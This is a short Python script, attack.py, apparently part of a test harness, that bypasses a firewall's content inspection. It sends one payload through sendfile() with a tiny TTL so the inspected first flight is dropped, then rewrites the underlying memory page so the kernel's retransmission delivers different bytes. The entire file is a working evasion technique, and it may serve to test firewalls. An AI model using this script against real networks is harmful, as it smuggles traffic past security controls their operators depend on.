"""attack.py: judged bytes that are lost on the way, and a retransmission that differs. Needs no privilege.

Reads a JSON object from standard input: address, port, shown (hex), sent (hex, as long; equal to `shown` for an honest
client), ttl (so small that the first flight is lost behind the firewall), and read (seconds to wait for an answer).

The kernel retransmits the pages that sendfile() gave it, not a copy: whoever can write to the page decides what the
retransmission carries. A firewall that judged the first flight has judged something else.
"""

import errno
import json
import os
import socket
import sys
import time


def main() -> int:
    request = json.loads(sys.stdin.readline())
    shown, sent = bytes.fromhex(request["shown"]), bytes.fromhex(request["sent"])
    six = ":" in request["address"]
    answer = {"received": "", "error": ""}
    client = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_STREAM)
    hops = (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS) if six else (socket.IPPROTO_IP, socket.IP_TTL)
    client.settimeout(5.0)
    try:
        client.connect((request["address"], request["port"]))
        page = os.memfd_create("page")
        os.write(page, shown)
        client.setsockopt(*hops, request["ttl"])
        if os.sendfile(client.fileno(), page, 0, len(shown)) != len(shown):
            raise RuntimeError("sendfile took less than the hello")
        time.sleep(0.05)  # Less than the first retransmission timeout (200 ms).
        os.pwrite(page, sent, 0)
        client.setsockopt(*hops, 64)
        client.settimeout(request["read"])
        answer["received"] = client.recv(65536).hex()
    except TimeoutError:
        answer["error"] = "timeout"
    except OSError as error:
        answer["error"] = errno.errorcode.get(error.errno, str(error))
    print(json.dumps(answer))
    return 0


if __name__ == "__main__":
    sys.exit(main())
